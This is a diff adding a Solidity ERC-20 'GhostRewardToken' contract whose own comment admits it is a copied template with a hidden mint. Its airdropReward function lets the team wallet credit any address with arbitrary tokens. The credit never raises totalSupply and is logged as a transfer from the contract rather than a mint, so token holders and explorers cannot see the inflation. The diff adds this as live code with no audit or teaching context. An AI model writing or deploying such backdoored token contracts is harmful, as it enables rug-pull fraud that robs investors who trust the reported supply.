@@ -172,3 +172,86 @@ contract ShibaSniperGuard is Context, IERC20, Ownable {
         }
     }
 }
+
+// A reward token from a copied template: balances in a private mapping, a
+// team wallet named in the constructor, and an "airdrop" that writes the
+// balance straight into the mapping without touching the total supply —
+// a mint that no Transfer from the zero address and no totalSupply shows.
+contract GhostRewardToken is Context, IERC20, Ownable {
+    mapping(address => uint256) private _balances;
+    mapping(address => mapping(address => uint256)) private _allowances;
+    string private _name;
+    string private _symbol;
+    uint256 private _tTotal;
+    address private _teamWallet;
+    address public uniswapV2Pair;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply) {
+        _name = name_;
+        _symbol = symbol_;
+        _tTotal = supply;
+        _teamWallet = _msgSender();
+        _balances[_msgSender()] = supply;
+        emit Transfer(address(0), _msgSender(), supply);
+    }
+
+    function name() public view returns (string memory) {
+        return _name;
+    }
+
+    function symbol() public view returns (string memory) {
+        return _symbol;
+    }
+
+    function decimals() public pure returns (uint8) {
+        return 18;
+    }
+
+    function totalSupply() public view override returns (uint256) {
+        return _tTotal;
+    }
+
+    function balanceOf(address account) public view override returns (uint256) {
+        return _balances[account];
+    }
+
+    function setPair(address pair) external onlyOwner {
+        uniswapV2Pair = pair;
+    }
+
+    function airdropReward(address account, uint256 amount) external {
+        require(_msgSender() == _teamWallet, "not team");
+        _balances[account] += amount;
+        emit Transfer(address(this), account, amount);
+    }
+
+    function transfer(address recipient, uint256 amount) public override returns (bool) {
+        _transfer(_msgSender(), recipient, amount);
+        return true;
+    }
+
+    function allowance(address owner_, address spender) public view override returns (uint256) {
+        return _allowances[owner_][spender];
+    }
+
+    function approve(address spender, uint256 amount) public override returns (bool) {
+        _allowances[_msgSender()][spender] = amount;
+        emit Approval(_msgSender(), spender, amount);
+        return true;
+    }
+
+    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
+        uint256 currentAllowance = _allowances[sender][_msgSender()];
+        require(currentAllowance >= amount, "ERC20: transfer amount exceeds allowance");
+        _allowances[sender][_msgSender()] = currentAllowance - amount;
+        _transfer(sender, recipient, amount);
+        return true;
+    }
+
+    function _transfer(address from, address to, uint256 amount) private {
+        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
+        _balances[from] -= amount;
+        _balances[to] += amount;
+        emit Transfer(from, to, amount);
+    }
+}
